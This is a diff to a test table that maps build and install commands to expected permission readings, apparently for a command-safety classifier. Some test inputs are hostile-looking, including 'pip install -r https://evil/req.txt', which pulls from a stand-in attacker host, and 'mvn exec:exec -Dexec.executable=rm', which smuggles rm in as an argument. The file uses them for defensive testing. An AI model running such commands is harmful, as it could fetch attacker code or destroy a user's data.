@@ -54,7 +54,7 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['pytest /tmp/evil.py', 'write workspace:/p, read /tmp/evil.py, execute program:pytest'],
   [
     'pip install -r requirements.txt',
-    'read tree:/p/requirements.txt, write workspace:/p, network get:pypi.org',
+    'write workspace:/p, network get:pypi.org, read /p/requirements.txt',
   ],
   ['pip install requests==2.1', 'write workspace:/p, network get:pypi.org'],
   [
@@ -252,7 +252,7 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['gradle build -x test', 'write workspace:/p'],
   ['./mvnw test', 'write workspace:/p'],
   ['./evil test', 'unknown'],
-  ['mvn exec:exec -Dexec.executable=rm', 'write workspace:/p, execute program:mvn'],
+  ['mvn exec:exec -Dexec.executable=rm', 'write workspace:/p, execute program:mvn, option_unknown'],
   ['mvn -f /tmp/pom.xml test', 'read /tmp/pom.xml, execute program:mvn, write workspace:/p'],
   ['sbt test', 'write workspace:/p'],
   ['javac A.java', 'write workspace:/p, read /p/A.java'],
@@ -307,7 +307,7 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['make -f other.mk evil', 'read /p/other.mk, write workspace:/p, execute program:make'],
   [
     'pip install -r https://evil/req.txt',
-    'network get:https://evil/req.txt, write workspace:/p, network get:pypi.org',
+    'write workspace:/p, network get:pypi.org, network get:https://evil/req.txt, execute program:pip',
   ],
   ['hatch run test', 'write workspace:/p, execute program:test, argv(test)'],
   ['pdm run pytest', 'write workspace:/p, argv(pytest)'],
